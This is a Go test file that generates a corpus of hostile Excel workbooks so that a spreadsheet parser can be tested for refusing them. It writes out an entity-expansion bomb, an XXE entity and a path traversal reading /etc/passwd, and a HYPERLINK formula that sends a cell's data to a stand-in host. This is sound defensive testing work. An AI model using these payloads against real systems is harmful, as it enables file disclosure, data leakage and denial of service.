package sheet

import (
	"archive/zip"
	"bytes"
	"flag"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "write the hostile workbooks anew")

// A hostileBook is a workbook as somebody who means harm, or a broken program, would
// put it on a medium.
type hostileBook struct {
	file, code string // the code with which a list in it is refused
	story      string
	make       func() []byte
}

const (
	heads = `<row r="1"><c r="A1" t="inlineStr"><is><t>整理番号</t></is></c><c r="B1" t="inlineStr"><is><t>氏名</t></is></c><c r="C1" t="inlineStr"><is><t>生年月日</t></is></c></row>`
	taro  = `<row r="2"><c r="A2" t="inlineStr"><is><t>1</t></is></c><c r="B2" t="inlineStr"><is><t>見本　太郎</t></is></c><c r="C2" t="inlineStr"><is><t>1950-03-04</t></is></c></row>`
)

// packed is a workbook whose bytes are always the same.
func packed(p parts) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(p)) {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, p[name])
		}
		if err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// hostileBooks are the corpus.
func hostileBooks() []hostileBook {
	const sheet1 = "xl/worksheets/sheet1.xml"
	rows := func(data string) func() []byte { return func() []byte { return packed(byHand(heads + data)) } }
	with := func(name, text string) func() []byte {
		return func() []byte {
			p := byHand(heads + taro)
			p[name] = text
			return packed(p)
		}
	}
	changed := func(name, from, to string) func() []byte {
		return func() []byte {
			p := byHand(heads + taro)
			if !strings.Contains(p[name], from) {
				panic(name + ": no " + from)
			}
			p[name] = strings.Replace(p[name], from, to, 1)
			return packed(p)
		}
	}
	laughs := func() []byte {
		text := `<!DOCTYPE w [<!ENTITY a "ハ">`
		for i := range 9 {
			text += fmt.Sprintf(`<!ENTITY %c "%s">`, 'b'+i, strings.Repeat(fmt.Sprintf("&%c;", 'a'+i), 10))
		}
		p := byHand(heads + taro)
		p[sheet1] = text + `]>` + strings.Replace(p[sheet1], "見本　太郎", "&j;", 1)
		return packed(p)
	}
	columns := func() []byte {
		var b strings.Builder
		b.WriteString(`<row r="1">`)
		for i := range 100_000 { // not so regular that it were a bomb
			fmt.Fprintf(&b, `<c><v>%d</v></c>`, i*i*7919%1_000_003)
		}
		return packed(byHand(b.String() + `</row>` + taro))
	}
	return []hostileBook{
		{"billion-laughs.xlsx", "F333", "entities in entities: a billion characters for one cell", laughs},
		{"external-entity.xlsx", "F333", "an entity that is a file of this machine", changed(sheet1, "<worksheet", `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet`)},
		{"external-link.xlsx", "F332", "a link to a workbook on another machine", changed("xl/_rels/workbook.xml.rels", "</Relationships>",
			`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`)},
		{"formula.xlsx", "F119", "a cell that a spreadsheet would work out, with an answer of the sender's choice beside it", rows(`<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="str"><f>HYPERLINK("http://example.invalid/"&amp;C2)</f><v>見本　太郎</v></c></row>`)},
		{"hidden-row.xlsx", "F330", "a person in a row that nobody sees", rows(strings.Replace(taro, `r="2"`, `r="2" hidden="1"`, 1))},
		{"hidden-column.xlsx", "F334", "a date of birth that nobody sees", changed(sheet1, "<sheetData>", `<cols><col min="3" max="3" width="9" hidden="1"/></cols><sheetData>`)},
		{"foreign-row.xlsx", "F139", "a person in a row of somebody else's, which a spreadsheet does not show", rows(strings.NewReplacer("<row", `<z:row xmlns:z="urn:z"`, "</row", "</z:row").Replace(taro))},
		{"escapes.xlsx", "F136", "a name of a hundred thousand escapes, each of which moved all that follows", changed(sheet1, "見本　太郎", strings.Repeat("_x898B__x672C_", 50_000))},
		{"merged.xlsx", "F120", "one cell over two rows: whose name is it?", changed(sheet1, "</sheetData>", `</sheetData><mergeCells><mergeCell ref="B2:B3"/></mergeCells>`)},
		{"columns.xlsx", "F128", "a hundred thousand columns", columns},
		{"column-far-away.xlsx", "F139", "a cell in column ZZZZZZZ", rows(`<row r="2"><c r="ZZZZZZZ2"><v>1</v></c></row>`)},
		{"billion-rows.xlsx", "F139", "a sheet that is said to have a billion rows, and a row of that number", func() []byte {
			p := byHand(heads + taro + `<row r="1073741824"><c r="A1073741824"><v>1</v></c></row>`)
			p[sheet1] = strings.Replace(p[sheet1], `<dimension ref="A1"/>`, `<dimension ref="A1:XFD1073741824"/>`, 1)
			return packed(p)
		}},
		{"rows-backwards.xlsx", "F139", "row 3 before row 2: readers would give the names to others", rows(strings.ReplaceAll(taro, `2"`, `3"`) + taro)},
		{"cell-twice.xlsx", "F139", "one cell twice, with two names", rows(strings.Replace(taro, `<c r="C2"`, `<c r="B2"><v>1</v></c><c r="C2"`, 1))},
		{"cells-backwards.xlsx", "F139", "column C before column B", rows(`<row r="2"><c r="C2"><v>1</v></c><c r="B2"><v>2</v></c></row>`)},
		{"nul.xlsx", "F139", "a NUL in the XML", changed(sheet1, "見本　太郎", "見本\x00太郎")},
		{"nul-reference.xlsx", "F139", "a NUL as a reference to a character", changed(sheet1, "見本　太郎", "見本&#0;太郎")},
		{"half-character.xlsx", "F139", "text that is no UTF-8", changed(sheet1, "見本　太郎", "見本\xe3\x81")},
		{"shared-index.xlsx", "F139", "a shared string that is not there", rows(`<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="s"><v>4294967295</v></c></row>`)},
		{"style-index.xlsx", "F139", "a style that is not there", rows(`<row r="2"><c r="A2" s="999999"><v>1</v></c></row>`)},
		{"sheet-outside.xlsx", "F139", "the sheet is said to be ../../../etc/passwd", changed("xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "../../../etc/passwd")},
		{"sheet-missing.xlsx", "F139", "the sheet is not there", changed("xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "worksheets/sheet7.xml")},
		{"sheet-elsewhere.xlsx", "F332", "the sheet is on another machine", changed("xl/_rels/workbook.xml.rels", `Target="worksheets/sheet1.xml"`, `Target="http://example.invalid/sheet1.xml" TargetMode="External"`)},
		{"sheets-of-one-name.xlsx", "F139", "two sheets of one name: which one is the list?", changed("xl/workbook.xml", "</sheets>", `<sheet name="名簿" sheetId="2" r:id="rId1"/></sheets>`)},
		{"two-workbooks.xlsx", "F139", "two parts that are one where capitals do not count", with("XL/Workbook.XML", "<workbook/>")},
		{"no-sheets.xlsx", "F139", "a workbook without sheets", with("xl/workbook.xml", "<workbook/>")},
		{"cut.xlsx", "F213", "the end is missing", func() []byte { b := packed(byHand(heads + taro)); return b[:len(b)*2/3] }},
		{"macros.xlsx", "F123", "macros under the name of a workbook without", with("xl/vbaProject.bin", "x")},
		{"binary.xlsx", "F336", "a binary workbook under the name of another", with("xl/workbook.bin", "x")},
		{"ods.xlsx", "F337", "OpenDocument under the name of a workbook", func() []byte { return packed(parts{"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}) }},
		{"xls.xlsx", "F335", "a workbook of before 2007 under the name of a newer one", func() []byte { return []byte(oleWith("Workbook")) }},
		{"pdf.xlsx", "F339", "a PDF under the name of a workbook", func() []byte { return []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") }},
		{"huge-cell.xlsx", "F121", "a cell of a gigabyte, packed to a megabyte twice over", nil}, // made when a test runs
	}
}

func hostileBooksFolder() string {
	return filepath.Join("..", "..", "testdata", "hostile", "workbooks")
}

// TestHostileWorkbooksAreWritten writes the corpus with -update, and else sees that the
// folder and its table hold exactly the corpus.
func TestHostileWorkbooksAreWritten(t *testing.T) {
	var table strings.Builder
	table.WriteString("file\tcode\tstory\n")
	known := map[string]bool{"kinds.tsv": true, "README.md": true}
	for _, h := range hostileBooks() {
		fmt.Fprintf(&table, "%s\t%s\t%s\n", h.file, h.code, h.story)
		known[h.file] = true
		if *update && h.make != nil {
			if err := os.WriteFile(filepath.Join(hostileBooksFolder(), h.file), h.make(), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	path := filepath.Join(hostileBooksFolder(), "kinds.tsv")
	if *update {
		if err := os.WriteFile(path, []byte(table.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if got, err := os.ReadFile(path); err != nil || string(got) != table.String() {
		t.Errorf("the table is not that of the corpus: go test ./formats/sheet -run Written -update (%v)", err)
	}
	files, err := os.ReadDir(hostileBooksFolder())
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if !known[f.Name()] {
			t.Errorf("%s has no story", f.Name())
		}
	}
}
